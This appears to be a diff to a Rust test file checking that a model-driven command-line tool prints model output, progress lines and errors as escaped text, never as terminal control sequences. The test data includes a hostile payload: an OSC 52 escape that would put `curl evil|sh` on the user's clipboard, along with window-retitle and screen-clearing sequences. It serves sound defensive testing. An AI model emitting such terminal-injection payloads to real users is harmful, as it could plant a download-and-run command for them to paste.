@@ -1,7 +1,9 @@
 //! What reaches a person's terminal through the real binary: text, never commands
 //! (a model's answer, its partial text, tool names and arguments in the progress
 //! lines, and error messages, on stdout and stderr, with `--json` still valid
-//! JSON).
+//! JSON); and the permission question on a real terminal (a pseudo-terminal): every
+//! line shown before the answer, where a path leads, `replace_all`, and keys typed
+//! before the question answer nothing.
 
 use serde_json::{Value, json};
 
@@ -9,6 +11,8 @@ use crate::cli::{run_on, text};
 use crate::support::mock_llm::{
     MockLlm, Reply, ev_finish, ev_role, ev_text, ev_tool_args, ev_tool_start, ev_usage,
 };
+
+mod pty;
 
 /// What a hostile model writes: OSC 52 sets the clipboard (to `curl evil|sh`), OSC 0
 /// retitles the window, CSI 2J and CSI H clear the screen and move the cursor home,
@@ -67,24 +71,25 @@ async fn progress_lines_partial_text_and_errors_reach_the_terminal_as_text() {
     assert_eq!(first_control(&out.stderr), None, "{stderr}");
     // The partial answer on stdout; the progress lines and the error on stderr.
     assert_eq!(stdout, format!("Working.{SHOWN}\n"));
-    let lines: Vec<&str> = stderr
+    // The two calls run at once: which fails first varies.
+    let mut lines: Vec<&str> = stderr
         .lines()
         .map(|l| l.split_once("] ").map_or(l, |(_, rest)| rest))
         .collect();
-    assert_eq!(
-        lines,
-        [
-            "orchestrator: started".to_owned(),
-            // Clipped to 40 characters, then escaped.
-            r"orchestrator: Glob *.rs\u{1b}]52;c;Y3VybCBldmlsfHNo\u{7}\u{1b}]0;pwned\u{7}\u{1b}…"
-                .to_owned(),
-            format!("orchestrator: Nope{SHOWN}"),
-            "orchestrator: Glob failed".to_owned(),
-            format!("orchestrator: Nope{SHOWN} failed"),
-            format!("orchestrator: failed: HTTP 400: bad request{SHOWN}"),
-            format!("orchestrate: HTTP 400: bad request{SHOWN}"),
-        ]
-    );
+    lines.sort_unstable();
+    let mut expected = [
+        "orchestrator: started".to_owned(),
+        // Clipped to 40 characters, then escaped.
+        r"orchestrator: Glob *.rs\u{1b}]52;c;Y3VybCBldmlsfHNo\u{7}\u{1b}]0;pwned\u{7}\u{1b}…"
+            .to_owned(),
+        format!("orchestrator: Nope{SHOWN}"),
+        "orchestrator: Glob failed".to_owned(),
+        format!("orchestrator: Nope{SHOWN} failed"),
+        format!("orchestrator: failed: HTTP 400: bad request{SHOWN}"),
+        format!("orchestrate: HTTP 400: bad request{SHOWN}"),
+    ];
+    expected.sort_unstable();
+    assert_eq!(lines, expected);
 }
 
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
